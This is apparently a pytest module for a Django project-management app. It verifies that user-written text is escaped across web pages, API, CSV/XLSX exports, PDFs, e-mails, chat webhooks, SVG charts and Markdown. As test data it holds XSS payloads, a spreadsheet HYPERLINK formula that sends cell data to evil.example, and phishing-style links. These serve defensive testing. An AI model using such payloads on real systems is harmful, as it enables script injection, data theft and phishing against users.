"""Tenant-authored text is escaped everywhere it is shown.

One organisation (the demo's acme, seeded once for the module) has every piece of text its users write — its own
name, portfolios, projects, milestones, risks and issues, change requests, status reports and their escalations,
people, knowledge articles, documents, alert rules, notifications, comments … — replaced by a hostile payload
(a script, an image with an event handler, both quotes, an ampersand) followed by the original text and some
Chinese. Then:

- every page of the web UI reachable from the workspaces (a crawl of the organisation's links as its admin) shows
  the payload only escaped, never as a live tag, and the main pages really show it;
- the API returns the raw text (JSON is data, not markup);
- a list exported as CSV neutralises a cell a spreadsheet would run as a formula; XLSX keeps it text;
- the HTML the PDFs are made from (weekly pack, monthly review, one-pager) has no live tag, and ``pdftotext``
  reads the payload as literal text;
- e-mails (invitation, notification, status reminder) carry it literally in the text part and escaped in HTML;
- SVG charts escape hostile labels;
- in Chromium, pages with the payload fire no dialog.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import xml.etree.ElementTree as ET
from collections import deque
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape as html_escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urldefrag, urlsplit

import openpyxl
import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.exceptions import FieldDoesNotExist
from django.db import models, transaction
from django.http import HttpResponse
from rest_framework.test import APIClient

from pmo.core import charts
from pmo.tenancy.context import tenant_context
from pmo.tenancy.models import Membership, Organization
from pmo.tenancy.tasks import send_invitation_email
from projects.knowledge.models import Article
from projects.knowledge.rendering import render_markdown
from projects.models import Project, StatusReport
from projects.policy import current_week_start, week_label
from reports.models import Notification, NotificationKind, Webhook
from reports.notifications import webhooks
from reports.notifications.delivery import digest_email, notification_email
from reports.notifications.services import notify
from reports.pdf import render_html
from reports.pdf.render import html_to_pdf
from risks.models import Risk
from tests.api_conformance_support import DemoOrg
from tests.factories import InvitationFactory

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
PAYLOAD = f"{SCRIPT}{IMG}\"'& 恶意"
# What a live payload would leave in markup; escaped it reads &lt;script&gt;… instead.
LIVE = ("<script>alert(1)", "<img src=x onerror", '<img src="x" onerror')
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"

# Text a user writes. Structured values (codes used as keys, slugs, e-mail addresses, URLs, choices, stored file
# names, languages, time zones, tokens) are left alone: they are validated to a format the payload cannot take.
SKIPPED_FIELDS = {
    "slug", "email", "url", "language", "timezone", "time_zone", "currency", "content_type", "file", "key",
    "token_hash", "prefix", "secret", "digest", "color", "colour", "icon", "week", "idempotency_key", "checksum",
    "sha256", "pgh_label", "original_name", "target_url", "path", "storage_name", "mime_type", "country",
}  # fmt: skip


def text_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.primary_key
        and field.name not in SKIPPED_FIELDS
        and not field.name.endswith(("_hash", "_key", "_url", "_id"))
        and (field.max_length is None or field.max_length >= len(PAYLOAD) + 8)
    ]


def poisoned(value: str, max_length: int | None) -> str:
    text = f"{PAYLOAD} {value}"
    return text[:max_length] if max_length else text


def poison(organization: Organization) -> list[str]:
    """Put the payload in front of every user-written text of ``organization``; answer the tables that refused
    (immutable history), each with why."""
    refused: list[str] = []
    with tenant_context(organization):
        Organization.objects.filter(pk=organization.pk).update(name=poisoned(organization.name, 200))
        people = Membership.objects.filter(organization=organization).values("user_id")
        for user in get_user_model()._default_manager.filter(pk__in=people):
            user.full_name = poisoned(user.full_name, 150)
            user.save(update_fields=["full_name"])
        for model in apps.get_models():
            if model._meta.proxy or not model._meta.managed or model.__name__.endswith("Event"):
                continue
            try:
                model._meta.get_field("organization")
            except FieldDoesNotExist:
                continue
            fields = text_fields(model)
            json_fields = [f for f in model._meta.concrete_fields if isinstance(f, models.JSONField)]
            if not fields and not json_fields:
                continue
            manager = getattr(model, "dangerously_unscoped", model._default_manager)
            try:
                with transaction.atomic():
                    for row in manager.filter(organization=organization):
                        changed = []
                        for field in fields:
                            value = getattr(row, field.attname)
                            if value:
                                setattr(row, field.attname, poisoned(value, field.max_length))
                                changed.append(field.attname)
                        for field in json_fields:
                            value = getattr(row, field.attname)
                            if _poison_json(value):
                                changed.append(field.attname)
                        if changed:
                            models.Model.save(row, update_fields=changed)
            except Exception as exc:
                refused.append(f"{model._meta.label}: {type(exc).__name__}: {str(exc).splitlines()[0]}")
    return refused


def _poison_json(value: Any) -> bool:
    """Titles and texts inside JSON lists of dicts (escalations, actions …), in place."""
    changed = False
    if isinstance(value, list):
        for item in value:
            changed |= _poison_json(item)
    elif isinstance(value, dict):
        for key, item in value.items():
            wanted = key in {"title", "text", "note", "description", "name", "action", "comment"}
            if (wanted or key.endswith(("_name", "_title"))) and isinstance(item, str):
                value[key] = poisoned(item, None)
                changed = True
            elif isinstance(item, list | dict):
                changed |= _poison_json(item)
    return changed


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            href = dict(attrs).get("href")
            if href:
                self.links.append(href)


# Not followed: files, state changes behind a GET confirmation are fine but logouts and downloads are not pages.
NOT_FOLLOWED = re.compile(r"format=|/download|/export|logout|\.pdf|\.ics|/feed|/api/|/media/|/file/|/pdf/")


def pattern(path: str) -> str:
    """The shape of a URL: ids, weeks and months as ``N``."""
    return re.sub(r"\d+", "N", path)


def crawl(client: Any, slug: str, *, limit: int = 600, per_pattern: int = 2) -> dict[str, tuple[int, bool, bool]]:
    """GET every page of ``/o/<slug>/`` reachable from its home, at most ``per_pattern`` of each URL shape;
    answer ``{url: (status, payload shown escaped, payload live)}``."""
    prefix = f"/o/{slug}/"
    queue: deque[str] = deque([prefix, f"{prefix}dashboard/", f"{prefix}cockpit/", f"{prefix}projects/"])
    seen: set[str] = set(queue)
    shapes: dict[str, int] = {}
    pages: dict[str, tuple[int, bool, bool]] = {}
    while queue and len(pages) < limit:
        url = queue.popleft()
        response = client.get(url)
        kind = response.get("Content-Type", "")
        if response.status_code != 200 or not kind.startswith(("text/html", "image/svg")):
            pages[url] = (response.status_code, False, False)
            continue
        body = response.content.decode()
        main = body[body.find("<main") :] if "<main" in body else body
        pages[url] = (200, ESCAPED in main, any(mark in body for mark in LIVE))
        if "html" not in kind:
            continue
        parser = _Links()
        parser.feed(body)
        for href in parser.links:
            target = urldefrag(href)[0]
            parts = urlsplit(target)
            if parts.scheme or parts.netloc or not parts.path.startswith(prefix) or NOT_FOLLOWED.search(target):
                continue
            if parts.query and not parts.query.startswith("tab="):
                continue
            shape = pattern(parts.path) + ("?" + parts.query if parts.query else "")
            if target in seen or shapes.get(shape, 0) >= per_pattern:
                continue
            shapes[shape] = shapes.get(shape, 0) + 1
            seen.add(target)
            queue.append(target)
    return pages


def live_pages(pages: dict[str, tuple[int, bool, bool]]) -> Iterator[str]:
    return (url for url, (_status, _shown, live) in pages.items() if live)


# --- The poisoned organisation ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Poisoned:
    demo: DemoOrg
    refused: list[str]

    @property
    def organization(self) -> Organization:
        return self.demo.organization

    @property
    def slug(self) -> str:
        return self.demo.organization.slug


@pytest.fixture(scope="module")
def acme(demo_orgs: tuple[DemoOrg, DemoOrg], django_db_blocker: Any) -> Poisoned:
    with django_db_blocker.unblock():
        refused = poison(demo_orgs[0].organization)
        demo_orgs[0].organization.refresh_from_db()
    return Poisoned(demo=demo_orgs[0], refused=refused)


def first(model: Any, organization: Organization, **filters: Any) -> Any:
    with tenant_context(organization):
        return model.objects.filter(organization=organization, **filters).order_by("pk").first()


def test_every_text_table_took_the_payload(acme: Poisoned) -> None:
    """Only immutable history refuses an update in place; everything else now carries the payload."""
    assert sorted(line.split(":")[0] for line in acme.refused) == ["projects.Baseline", "projects.StatusRevision"]
    with tenant_context(acme.organization):
        assert acme.organization.name.startswith(PAYLOAD)
        assert Project.objects.filter(organization=acme.organization).exclude(name__startswith=PAYLOAD).count() == 0
        assert Risk.objects.filter(organization=acme.organization, title__startswith=PAYLOAD).exists()


# --- Web pages ----------------------------------------------------------------------------------------------------

# URL shapes (ids → N) that must be among the crawled pages and show an escaped payload in their main content.
MAIN_PAGES = {
    "/o/acme/projects/", "/o/acme/projects/N/", "/o/acme/projects/N/raid/", "/o/acme/projects/N/changes/",
    "/o/acme/projects/N/changes/N/", "/o/acme/projects/N/status/", "/o/acme/projects/N/milestones/",
    "/o/acme/projects/N/documents/", "/o/acme/projects/N/closure/", "/o/acme/dashboard/", "/o/acme/cockpit/",
    "/o/acme/overview/", "/o/acme/meetings/weekly/", "/o/acme/knowledge/", "/o/acme/knowledge/N/",
    "/o/acme/resources/", "/o/acme/resources/capacity/department/N/N-WN/", "/o/acme/alerts/", "/o/acme/alerts/rules/",
    "/o/acme/inbox/", "/o/acme/risks/", "/o/acme/issues/", "/o/acme/changes/", "/o/acme/portfolios/N/",
    "/o/acme/members/",
}  # fmt: skip


class _FakeClient:
    """Two pages: the home links to a page where the payload is live (what a ``|safe`` would do)."""

    def get(self, url: str) -> HttpResponse:
        if url == "/o/fake/":
            return HttpResponse(f'<main><a href="/o/fake/bad/">bad</a>{ESCAPED}</main>')
        if url == "/o/fake/bad/":
            return HttpResponse(f"<main>{PAYLOAD}</main>")
        return HttpResponse(status=404)


def test_the_crawl_finds_a_live_payload() -> None:
    pages = crawl(_FakeClient(), "fake")

    assert pages["/o/fake/"] == (200, True, False)
    assert pages["/o/fake/bad/"] == (200, False, True)
    assert list(live_pages(pages)) == ["/o/fake/bad/"]


def test_every_page_shows_the_payload_escaped_never_live(acme: Poisoned, client: Any) -> None:
    client.force_login(acme.demo.admin)

    pages = crawl(client, acme.slug)

    assert list(live_pages(pages)) == []
    ok = [url for url, (status, _shown, _live) in pages.items() if status == 200]
    assert len(ok) >= 120, f"the crawl reached only {len(ok)} pages"
    shown = {pattern(url) for url, (_status, in_main, _live) in pages.items() if in_main}
    missing = sorted(shape for shape in MAIN_PAGES if shape not in shown)
    assert missing == [], missing


def test_a_managers_pages_in_chinese_show_it_escaped_too(acme: Poisoned, client: Any) -> None:
    """Other roles see other branches of the templates (their own work, a manager's forms), and Chinese takes the
    translated ones."""
    manager = get_user_model()._default_manager.get(email=f"manager@{acme.slug}.example")
    manager.language = "zh-hans"
    manager.save(update_fields=["language"])
    client.force_login(manager)

    pages = crawl(client, acme.slug, limit=250, per_pattern=1)

    assert list(live_pages(pages)) == []
    assert 'lang="zh-hans"' in client.get(f"/o/{acme.slug}/my/").content.decode()
    shown = {pattern(url) for url, (_status, in_main, _live) in pages.items() if in_main}
    assert {"/o/acme/my/", "/o/acme/projects/N/", "/o/acme/projects/N/status/"} <= shown


# --- API, exports -------------------------------------------------------------------------------------------------


def test_the_api_returns_the_raw_text_as_json(acme: Poisoned) -> None:
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {acme.demo.token}")

    response = api.get(f"/api/v1/orgs/{acme.slug}/projects/")

    assert response.status_code == 200 and response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    names = [row["name"] for row in response.json()["results"]]
    assert names and all(name.startswith(PAYLOAD) for name in names)


FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1")


def test_exported_lists_never_carry_a_formula(acme: Poisoned, client: Any) -> None:
    organization = acme.organization
    with tenant_context(organization):
        risks = list(Risk.objects.filter(organization=organization).order_by("pk")[: len(FORMULAS)])
        for risk, formula in zip(risks, FORMULAS, strict=True):
            Risk.objects.filter(organization=organization, pk=risk.pk).update(title=formula)
    client.force_login(acme.demo.admin)

    csv_response = client.get(f"/o/{acme.slug}/risks/?format=csv")
    xlsx_response = client.get(f"/o/{acme.slug}/risks/?format=xlsx")

    assert csv_response.status_code == 200 and xlsx_response.status_code == 200
    assert csv_response["X-Content-Type-Options"] == "nosniff"
    cells = [cell for row in csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))) for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]
    assert any(cell.startswith(PAYLOAD) for cell in cells)  # markup in a CSV is data, kept as written
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_response.content))
    sheet = workbook.worksheets[0]
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    for formula in FORMULAS:
        assert values.get(formula) == "s"
    assert "f" not in values.values()


# --- PDFs ---------------------------------------------------------------------------------------------------------


def _periods(organization: Organization) -> tuple[str, str, Project]:
    week_start = current_week_start(organization=organization) - dt.timedelta(days=7)
    with tenant_context(organization):
        report = (
            StatusReport.objects.filter(organization=organization, week_start__lte=week_start)
            .select_related("project")
            .order_by("-week_start", "project__code")
            .first()
        )
    assert report is not None
    month = week_start.replace(day=1) - dt.timedelta(days=1)
    return week_label(report.week_start), month.strftime("%Y-%m"), report.project


def test_pdf_sources_escape_and_the_pdf_reads_the_literal_text(acme: Poisoned, tmp_path: Path) -> None:
    organization = acme.organization
    week, month, project = _periods(organization)
    kinds = {"weekly_pack": (week, None), "monthly_review": (month, None), "project_onepager": (week, project)}
    sources = {}
    with tenant_context(organization):
        for kind, (period, subject) in kinds.items():
            html, _document = render_html(
                organization=organization, kind=kind, period=period, project=subject, language="en"
            )
            sources[kind] = html
        pdf, _pages = html_to_pdf(sources["weekly_pack"])

    for kind, html in sources.items():
        assert not [mark for mark in LIVE if mark in html], kind
        assert ESCAPED in html, kind
    assert html_escape(project.name) in sources["project_onepager"]
    path = tmp_path / "weekly.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True).stdout.decode()
    assert SCRIPT in text and "onerror=alert(2)" in text


# --- E-mails ------------------------------------------------------------------------------------------------------


def test_emails_carry_the_text_literally_and_escape_it_in_html(acme: Poisoned) -> None:
    organization, admin = acme.organization, acme.demo.admin
    with tenant_context(organization):
        project = Project.objects.filter(organization=organization).order_by("pk").first()
        assert project is not None
        [notification_id] = notify(
            organization=organization,
            kind=NotificationKind.STATUS_REMINDER,
            recipients=[admin],
            params={"project_code": project.code, "project_name": project.name, "week": "2026-W40"},
            dedup_key="escaping-test",
        )
        notification = Notification.objects.select_related("recipient").get(pk=notification_id)
        message = notification_email(notification=notification, organization=organization)
        digest = digest_email(user=admin, notifications=[notification], organization=organization)
        invitation = InvitationFactory(organization=organization, invited_by=admin, email="new@acme.example")
    mail.outbox.clear()
    send_invitation_email(organization_id=organization.pk, invitation_id=invitation.pk)

    [invited] = mail.outbox
    for text in (message.body, digest.body, invited.body):
        assert PAYLOAD in text and "&lt;" not in text  # plain text: the text as written, not HTML-escaped
    assert PAYLOAD in message.subject and "\n" not in message.subject
    for email in (message, digest):
        [(html, kind)] = email.alternatives
        assert kind == "text/html"
        assert not [mark for mark in LIVE if mark in html]
        assert ESCAPED in html


def test_chat_webhooks_carry_tenant_text_as_text() -> None:
    """Slack reads ``<url|label>`` as a link and ``<!channel>`` as a mention anywhere in a message: a project named
    so must arrive as text. Only the link to the PMO itself stays a link."""
    name = "<https://evil.example/|Sign in again> <!channel> & co"
    organization = Organization(slug="acme", name="Acme", default_language="en")
    body = webhooks.format_payload(
        webhook_format=Webhook.Format.SLACK,
        organization=organization,
        kind=NotificationKind.STATUS_REMINDER,
        event="status.reminder",
        event_id="x",
        payload={"project_code": "P-1", "project_name": name, "week": "2026-W40", "url": "/o/acme/status/"},
        occurred_at=dt.datetime(2026, 10, 1, tzinfo=dt.UTC),
    )

    section = body["blocks"][0]["text"]["text"]
    for text in (body["text"], section):
        assert "<https://evil" not in text and "<!channel>" not in text
        assert "&lt;https://evil.example/|Sign in again&gt; &lt;!channel&gt; &amp; co" in text
    assert body["blocks"][1]["elements"][0]["text"].startswith("<http")  # the PMO's own link


@pytest.mark.parametrize("webhook_format", [Webhook.Format.DINGTALK, Webhook.Format.WECOM])
def test_robot_markdown_makes_no_link_of_tenant_text(webhook_format: str) -> None:
    name = "[Sign in again](https://evil.example/) ![](https://tracker.example/p.png)"
    body = webhooks.format_payload(
        webhook_format=webhook_format,
        organization=Organization(slug="acme", name="Acme", default_language="en"),
        kind=NotificationKind.STATUS_REMINDER,
        event="status.reminder",
        event_id="x",
        payload={"project_code": "P-1", "project_name": name, "week": "2026-W40", "url": "/o/acme/status/"},
        occurred_at=dt.datetime(2026, 10, 1, tzinfo=dt.UTC),
    )

    text = body["markdown"].get("text") or body["markdown"]["content"]
    assert "](https://evil" not in text and "](https://tracker" not in text
    assert "[Sign in again]\u200b(https://evil.example/)" in text
    assert re.search(r"\]\((https?://[^)]*/o/acme/status/)\)$", text)  # the PMO's own link stays a link


# --- Charts -------------------------------------------------------------------------------------------------------


def test_svg_charts_escape_hostile_labels() -> None:
    svgs = [
        charts.stacked_bar_chart(
            categories=[PAYLOAD, "2026-W40"], series=[charts.BarSeries(PAYLOAD, [1, 2])], title=PAYLOAD, y_label=PAYLOAD
        ),
        charts.grouped_bar_chart(
            categories=[PAYLOAD], series=[charts.BarSeries(PAYLOAD, [3])], title=PAYLOAD, y_label=PAYLOAD
        ),
        charts.quadrant_chart(
            points=[charts.Point(1.2, 0.8, label=PAYLOAD, tooltip=PAYLOAD)],
            quadrants={"good": charts.Quadrant(PAYLOAD, "good")},
            title=PAYLOAD,
            x_label=PAYLOAD,
            y_label=PAYLOAD,
        ),
    ]
    for svg in svgs:
        assert not [mark for mark in LIVE if mark in svg]
        root = ET.fromstring(str(svg))  # noqa: S314 - our own output; well-formed: nothing broke out of a text node or an attribute
        assert any(node.text == PAYLOAD for node in root.iter()) or PAYLOAD in "".join(root.itertext())


# --- Markdown -----------------------------------------------------------------------------------------------------

HOSTILE_MARKDOWN = """# Title 标题

[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vb](vbscript:msgbox(1)) [ok](https://example.com/a?b=1&c=2) [here](/o/acme/knowledge/)

<iframe src="https://evil.example/"></iframe>
<svg onload="alert(3)"><circle r="1"/></svg>
<div style="position:fixed" onclick="alert(4)">raw <b>html</b></div>
<a href="https://evil.example/" onmouseover="alert(5)" target="_blank">raw link</a>
<form action="https://evil.example/"><input name="q"></form>
<object data="x.swf"></object><embed src="x.swf"><style>body{display:none}</style>

![pixel](data:image/png;base64,iVBORw0KGgo=) ![remote](https://evil.example/p.png) ![local](/static/logo.png)
<img src=x onerror=alert(6)> <img src="javascript:alert(7)">

<script>alert(8)</script>
"""


def test_markdown_keeps_the_text_and_drops_everything_active() -> None:
    html = str(render_markdown(HOSTILE_MARKDOWN))

    for gone in (
        "javascript:", "vbscript:", "data:", "<iframe", "<svg", "onload", "onerror", "onclick", "onmouseover",
        "<script", "alert(8)", "<form", "<input", "<object", "<embed", "<style", "style=", "target=",
        'src="https://evil', "action=", "<div",
    ):  # fmt: skip
        assert gone not in html, gone
    assert "<h1>Title 标题</h1>" in html
    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">ok</a>' in html
    assert '<a href="/o/acme/knowledge/" rel="noopener noreferrer nofollow">here</a>' in html
    assert '<img alt="local" src="/static/logo.png">' in html and '<img alt="remote">' in html
    assert "raw <b>html</b>" in html and "raw link" in html  # allowed text stays, its wrappers go
    links = re.findall(r"<a [^>]*>", html)
    assert links and all('rel="noopener noreferrer nofollow"' in link for link in links)


def test_the_article_page_and_api_show_only_the_sanitised_body(acme: Poisoned, client: Any) -> None:
    organization = acme.organization
    article = first(Article, organization)
    with tenant_context(organization):
        Article.objects.filter(organization=organization, pk=article.pk).update(body=HOSTILE_MARKDOWN)
    client.force_login(acme.demo.admin)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {acme.demo.token}")

    page = client.get(f"/o/{acme.slug}/knowledge/{article.pk}/").content.decode()
    body = api.get(f"/api/v1/orgs/{acme.slug}/knowledge/{article.pk}/").json()

    main = page[page.find("<main") :]
    for html in (main, body["body_html"]):
        assert "<h1>Title 标题</h1>" in html or "Title 标题" in html
        active = ("javascript:", "<iframe", "<svg onload", 'onload="', "onerror=alert(6)", "<script", "data:")
        assert not [mark for mark in (*active, *LIVE) if mark in html]
    assert body["body"] == HOSTILE_MARKDOWN  # the source is returned as written, for editing
